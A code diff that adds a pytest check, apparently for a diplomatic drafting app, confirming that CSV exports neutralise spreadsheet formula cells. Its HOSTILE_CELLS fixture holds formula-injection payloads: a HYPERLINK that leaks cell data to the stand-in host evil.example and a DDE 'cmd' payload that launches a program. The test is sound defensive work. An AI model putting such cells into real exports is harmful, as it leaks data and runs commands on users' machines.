@@ -3,14 +3,16 @@ ids, formula cells in CSV downloads. Each gets a clear 4xx naming what is wrong,
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
-from sqlalchemy import func, select
+from sqlalchemy import func, select, update
 from sqlmodel import Session
 
-from consensus.models import Amendment
-from tests.conftest import D, clause_url, csrf_token, q
+from consensus.models import Amendment, Clause, Delegation
+from tests.conftest import D, clause_url, csrf_token, post_form, q
 
 NEW_TEXT = "States should cooperate, in a manner consistent with national law, to share threat information."
 
@@ -165,3 +167,29 @@ def test_strange_digits_in_json_id_fields_get_a_422_naming_them(api) -> None:  #
             "/api/v1/groups/oewg-ict/rounds", {"document": "declaration", "title": "Round", "amendment": digit}
         )
         assert response.status_code == 422 and response.json()["errors"][0]["field"] == "amendment"
+
+
+# --- formula cells in CSV downloads ----------------------------------------------------------------------
+
+HOSTILE_CELLS = {
+    "KEN": '=HYPERLINK("http://evil.example/?leak="&A1,"Kenya")',
+    "IND": "+1+cmd|' /C calc'!A0",
+    "NGA": "@SUM(1+1)*cmd",
+}
+
+
+def test_the_agreement_matrix_csv_neutralises_formula_cells_like_the_comment_csv(browsers, db: Session) -> None:  # type: ignore[no-untyped-def]
+    ken = browsers("ken.head")
+    commented = post_form(ken, f"{clause_url('3.2')}/comments", {"kind": "general", "body": "=1+1"}, page=D)
+    assert commented.status_code == 303
+    for code, name in HOSTILE_CELLS.items():
+        db.execute(update(Delegation).where(Delegation.code == code).values(name=name))
+    db.execute(update(Clause).where(Clause.number == "3.2").values(number="-3.2"))
+    db.commit()
+    matrix = list(csv.reader(io.StringIO(ken.get(f"{D}/agreement.csv").text.lstrip("\ufeff"))))
+    comments = list(csv.reader(io.StringIO(ken.get(f"{D}/comments.csv").text.lstrip("\ufeff"))))
+    names = {row[1]: row[0] for row in matrix[1:]}
+    for code, name in HOSTILE_CELLS.items():
+        assert names[code] == "'" + name
+    assert "'-3.2" in matrix[0] and "-3.2" not in matrix[0]
+    assert ["'-3.2", "'=1+1"] in [[row[1], row[4]] for row in comments[1:]]
